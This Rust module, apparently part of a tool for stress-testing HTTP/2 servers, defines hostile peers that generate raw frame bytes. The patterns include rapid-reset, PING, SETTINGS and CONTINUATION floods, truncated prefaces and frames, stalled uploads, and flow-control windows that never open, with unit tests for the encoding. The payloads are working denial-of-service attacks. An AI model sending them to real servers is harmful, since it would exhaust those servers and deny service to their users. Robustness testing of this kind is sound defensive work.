//! Hostile HTTP/2: half a preface, half a frame, floods of cheap frames, windows that never open.
//!
//! Owns: the bytes, frame by frame (RFC 9113). Not here: who writes them (`crowd`).

use super::{Attack, KIB, Reading, Then};
use crate::target::Speech;
use crate::wire::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, frame,
};

/// Frames in one burst of a flood.
const BURST: u64 = 64;
const LARGEST_WINDOW: u32 = 0x7FFF_FFFF;
const HEADER_TABLE_SIZE: u16 = 1;
const INITIAL_WINDOW_SIZE: u16 = 4;

pub(super) fn attacks() -> Vec<Attack> {
    [quiet(), floods(), deaf()].concat()
}

fn peer(name: &'static str, about: &'static str, opening: Vec<u8>) -> Attack {
    Attack {
        bytes_each: 64 * KIB,
        ..Attack::holding(name, about, Speech::Http2, opening)
    }
}

fn quiet() -> Vec<Attack> {
    vec![
        peer(
            "h2-half-preface",
            "half an HTTP/2 preface, then nothing",
            PREFACE[..12].to_vec(),
        ),
        peer(
            "h2-half-frame",
            "a HEADERS frame that stops in its middle",
            [greeting(), frame(HEADERS, 0, 1, &[0; 100])[..40].to_vec()].concat(),
        ),
        peer(
            "h2-idle",
            "preface and settings, then nothing; no PING is ever acknowledged",
            greeting(),
        ),
        Attack {
            peers: 100,
            bytes_each: 256 * KIB,
            ..peer(
                "h2-slow-bodies",
                "50 uploads on one connection, of which none ever gets a byte",
                [greeting(), streams(50, "POST", "/upload", 0)].concat(),
            )
        },
    ]
}

fn floods() -> Vec<Attack> {
    let flood = |name, about, burst: fn(u64) -> Vec<u8>| Attack {
        peers: 16,
        then: Then::Flood { burst, most: 2_000 },
        again: 50,
        bytes_each: 512 * KIB,
        ..peer(name, about, greeting())
    };
    vec![
        flood(
            "h2-rapid-reset",
            "HEADERS and RST_STREAM, pair by pair",
            rapid_reset,
        ),
        flood("h2-ping", "PINGs, answers read", pings),
        Attack {
            reading: Reading::Never,
            receive_buffer: Some(4096),
            again: 0,
            ..flood("h2-ping-deaf", "PINGs, answers never read", pings)
        },
        flood("h2-settings", "SETTINGS, answers read", |_| {
            settings(&[(HEADER_TABLE_SIZE, 4096)]).repeat(BURST as usize)
        }),
        flood(
            "h2-empty-data",
            "empty DATA frames on one upload",
            empty_data,
        ),
        flood(
            "h2-continuation",
            "one header block in endless CONTINUATIONs",
            continuation,
        ),
    ]
}

fn deaf() -> Vec<Attack> {
    vec![
        Attack {
            peers: 50,
            reading: Reading::Never,
            receive_buffer: Some(4096),
            bytes_each: 2 * 1024 * KIB,
            ..peer(
                "h2-deaf",
                "the largest windows, 50 responses of 16 MiB, none read",
                open_windows(),
            )
        },
        Attack {
            peers: 50,
            bytes_each: 2 * 1024 * KIB,
            ..peer(
                "h2-no-window",
                "50 responses of 16 MiB under a window of 0 that never opens",
                [
                    PREFACE.to_vec(),
                    settings(&[(INITIAL_WINDOW_SIZE, 0)]),
                    streams(50, "GET", "/large?bytes=16777216", END_STREAM),
                ]
                .concat(),
            )
        },
    ]
}

/// Preface and empty settings: the least that opens a connection.
fn greeting() -> Vec<u8> {
    [PREFACE, &settings(&[])].concat()
}

fn open_windows() -> Vec<u8> {
    let more = LARGEST_WINDOW - 65_535;
    [
        PREFACE.to_vec(),
        settings16(INITIAL_WINDOW_SIZE, LARGEST_WINDOW),
        frame(WINDOW_UPDATE, 0, 0, &more.to_be_bytes()),
        streams(50, "GET", "/large?bytes=16777216", END_STREAM),
    ]
    .concat()
}

fn settings(pairs: &[(u16, u16)]) -> Vec<u8> {
    let payload: Vec<u8> = pairs
        .iter()
        .flat_map(|&(id, value)| [id.to_be_bytes(), [0, 0], value.to_be_bytes()].concat())
        .collect();
    frame(SETTINGS, 0, 0, &payload)
}

fn settings16(id: u16, value: u32) -> Vec<u8> {
    let payload = [&id.to_be_bytes()[..], &value.to_be_bytes()[..]].concat();
    frame(SETTINGS, 0, 0, &payload)
}

/// A request's header block: literals without indexing (RFC 7541 §6.2.2), so that no table is needed.
fn block(method: &str, path: &str) -> Vec<u8> {
    let mut block = Vec::new();
    for (name, value) in [
        (":method", method),
        (":scheme", "http"),
        (":authority", "localhost"),
        (":path", path),
    ] {
        block.push(0);
        for text in [name, value] {
            block.push(u8::try_from(text.len()).expect("shorter than 127 bytes"));
            block.extend(text.as_bytes());
        }
    }
    block
}

/// So many requests on streams 1, 3, 5 and on.
fn streams(count: u32, method: &str, path: &str, flags: u8) -> Vec<u8> {
    let block = block(method, path);
    (0..count)
        .flat_map(|index| frame(HEADERS, END_HEADERS | flags, 2 * index + 1, &block))
        .collect()
}

fn pings(_: u64) -> Vec<u8> {
    frame(PING, 0, 0, &[7; 8]).repeat(BURST as usize)
}

fn empty_data(burst: u64) -> Vec<u8> {
    let opening = if burst == 0 {
        streams(1, "POST", "/upload", 0)
    } else {
        Vec::new()
    };
    [opening, frame(DATA, 0, 1, b"").repeat(BURST as usize)].concat()
}

fn rapid_reset(burst: u64) -> Vec<u8> {
    const CANCEL: [u8; 4] = [0, 0, 0, 8];
    let block = block("GET", "/slow?ms=1000");
    (0..BURST)
        .flat_map(|index| {
            let stream = u32::try_from(2 * (burst * BURST + index) + 1).expect("bounded bursts");
            let mut pair = frame(HEADERS, END_HEADERS | END_STREAM, stream, &block);
            pair.extend(frame(RST_STREAM, 0, stream, &CANCEL));
            pair
        })
        .collect()
}

/// HEADERS without END_HEADERS, then fields in CONTINUATION frames that never say END_HEADERS either.
fn continuation(burst: u64) -> Vec<u8> {
    let mut bytes = Vec::new();
    if burst == 0 {
        bytes.extend(frame(HEADERS, END_STREAM, 1, &block("GET", "/")));
    }
    let mut field = vec![0, 6];
    field.extend(b"x-long");
    field.push(100);
    field.extend([b'a'; 100]);
    for _ in 0..BURST / 8 {
        bytes.extend(frame(CONTINUATION, 0, 1, &field.repeat(8)));
    }
    bytes
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn settings_are_pairs_of_id_and_value() {
        assert_eq!(
            settings(&[(INITIAL_WINDOW_SIZE, 1)]),
            [0, 0, 6, SETTINGS, 0, 0, 0, 0, 0, 0, 4, 0, 0, 0, 1]
        );
        assert_eq!(settings16(4, 1), settings(&[(4, 1)]));
    }

    #[test]
    fn a_rapid_reset_never_uses_a_stream_twice() {
        let streams = |burst| {
            let bytes = rapid_reset(burst);
            let mut at = 0;
            let mut found = Vec::new();
            while at < bytes.len() {
                let length = u32::from_be_bytes([0, bytes[at], bytes[at + 1], bytes[at + 2]]);
                if bytes[at + 3] == HEADERS {
                    found.push(u32::from_be_bytes(
                        bytes[at + 5..at + 9].try_into().unwrap(),
                    ));
                }
                at += 9 + length as usize;
            }
            found
        };
        let all: Vec<u32> = (0..3).flat_map(streams).collect();
        assert_eq!(all.len() as u64, 3 * BURST);
        assert!(all.is_sorted() && all.windows(2).all(|pair| pair[1] == pair[0] + 2));
    }
}
